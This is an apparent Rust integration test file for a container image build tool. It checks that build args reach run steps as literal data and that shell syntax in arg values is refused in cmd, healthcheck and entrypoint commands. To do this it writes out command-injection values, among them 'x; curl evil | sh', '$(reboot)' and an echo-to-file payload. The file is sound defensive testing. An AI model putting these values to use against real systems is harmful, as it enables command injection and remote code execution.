//! Keys and values end to end, with the real binary: different config steps are different
//! nodes and build different images, and build args reach `run` as data, never as shell source.

mod common;

use std::path::Path;

use common::{
    Sandbox, assert_success, prerequisite, require_tool, stderr, stdout, unpack_platform,
};

/// The image config of one platform of a layout, read through skopeo (an independent reader).
fn config(layout: &Path, tag: &str) -> serde_json::Value {
    require_tool("skopeo");
    let output = std::process::Command::new("skopeo")
        .args(["--override-arch", "amd64", "inspect", "--config"])
        .arg(format!("oci:{}:{tag}", layout.display()))
        .output()
        .expect("skopeo runs");
    assert!(output.status.success(), "skopeo: {}", stderr(&output));
    serde_json::from_slice(&output.stdout).expect("a JSON config")
}

fn require_root() -> bool {
    prerequisite(
        nix::unistd::geteuid().is_root(),
        "these tests run steps in the sandbox, which needs root",
    )
}

#[test]
fn env_steps_that_describe_alike_plan_as_two_nodes_and_build_two_correct_images() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "images.kdl",
        r#"
        stage a { from "oci:tests/fixtures/busybox:1.35.0"; env A="1 B=2"; }
        stage b { from "oci:tests/fixtures/busybox:1.35.0"; env A="1" B="2"; }
        image one { stage a; tags "localhost/one:1"; }
        image two { stage b; tags "localhost/two:1"; }
        "#,
    );
    let plan = sandbox.graphbuild(&[
        "plan",
        "images.kdl",
        "--platform",
        "linux/amd64",
        "--format",
        "json",
    ]);
    assert_success(&plan);
    let plan: serde_json::Value = serde_json::from_slice(&plan.stdout).expect("plan JSON");
    let nodes = plan["nodes"].as_array().expect("nodes");
    assert_eq!(nodes.len(), 2, "one node per stage: {plan:#}");
    assert_ne!(nodes[0]["key"], nodes[1]["key"]);

    // Building needs no sandbox (config steps only), so no root either.
    let run = sandbox.graphbuild(&[
        "run",
        "images.kdl",
        "--platform",
        "linux/amd64",
        "--output",
        "out",
    ]);
    assert_success(&run);
    let env = |image: &str| -> Vec<String> {
        let config = config(&sandbox.path().join("out").join(image), "1");
        config["config"]["Env"]
            .as_array()
            .expect("Env")
            .iter()
            .map(|value| value.as_str().expect("a string").to_string())
            .filter(|pair| pair.starts_with("A=") || pair.starts_with("B="))
            .collect()
    };
    assert_eq!(env("one"), ["A=1 B=2"]);
    assert_eq!(env("two"), ["A=1", "B=2"]);
}

#[test]
fn a_build_arg_is_data_in_run_never_shell_source() {
    if !require_root() {
        return;
    }
    let sandbox = Sandbox::new();
    sandbox.write(
        "images.kdl",
        r#"
        arg SARG="plain"
        stage s {
            from "oci:tests/fixtures/busybox:1.35.0"
            run "echo \"sarg=${SARG}\" > /sarg.txt"
            run "echo 'quoted=${SARG}' > /quoted.txt"
        }
        image app { stage s; tags "localhost/app:1"; }
        "#,
    );
    let hostile = r#"";echo INJ2 > /injected;""#;
    let run = sandbox.graphbuild(&[
        "run",
        "images.kdl",
        "--platform",
        "linux/amd64",
        "--output",
        "out",
        "--arg",
        &format!("SARG={hostile}"),
        "--progress",
        "plain",
    ]);
    assert_success(&run);
    let rootfs = unpack_platform(
        &sandbox.path().join("out/app"),
        "1",
        "linux/amd64",
        &sandbox.path().join("unpacked"),
    );
    assert_eq!(
        std::fs::read_to_string(rootfs.join("sarg.txt")).expect("sarg.txt"),
        format!("sarg={hostile}\n"),
        "the value is printed literally"
    );
    assert!(
        !rootfs.join("injected").exists(),
        "the value ran as a command"
    );
    // Inside single quotes the shell does not expand, as in a Dockerfile.
    assert_eq!(
        std::fs::read_to_string(rootfs.join("quoted.txt")).expect("quoted.txt"),
        "quoted=${SARG}\n"
    );
    // The progress output may show the value.
    assert!(stdout(&run).contains("INJ2") || stderr(&run).contains("INJ2"));
}

#[test]
fn a_build_arg_with_shell_syntax_cannot_plant_a_command_in_the_image() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "images.kdl",
        r#"
        arg NAME="world"
        stage s {
            from "oci:tests/fixtures/busybox:1.35.0"
            cmd "echo hello ${NAME}" shell=#true
            healthcheck "test -n ${NAME}"
            entrypoint "/bin/sh" "-c" "exec echo $NAME"
        }
        image app { stage s; tags "localhost/app:1"; }
        "#,
    );
    let plan = |value: &str| {
        sandbox.graphbuild(&[
            "plan",
            "images.kdl",
            "--platform",
            "linux/amd64",
            "--arg",
            &format!("NAME={value}"),
        ])
    };
    // Plain words, spaces included, are substituted as before.
    assert_success(&plan("brave new world"));
    // Shell syntax in a value is refused, in every runtime command that reads it.
    for hostile in ["x; curl evil | sh", "$(reboot)", "`id`", "a\"b", "x'y"] {
        let output = plan(hostile);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{hostile}: {}",
            stderr(&output)
        );
        let text = stderr(&output);
        assert!(
            text.contains("graphbuild::substitution::unsafe_value")
                && text.contains("would change this runtime command"),
            "{hostile}: {text}"
        );
        assert_eq!(
            text.matches("would change this runtime command").count(),
            3,
            "cmd, healthcheck and the entrypoint's shell source: {text}"
        );
    }
}
